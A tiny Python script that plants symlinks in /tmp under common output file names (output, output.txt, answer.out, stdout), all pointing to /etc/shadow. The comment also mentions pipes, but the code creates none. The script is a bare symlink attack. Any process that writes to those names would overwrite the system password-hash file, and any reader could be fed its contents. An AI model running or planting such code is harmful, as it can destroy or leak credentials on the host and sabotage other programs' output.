# Leaves links and pipes where others would look for its output.
import os

for name in ("output", "output.txt", "answer.out", "stdout"):
    os.symlink("/etc/shadow", f"/tmp/{name}")
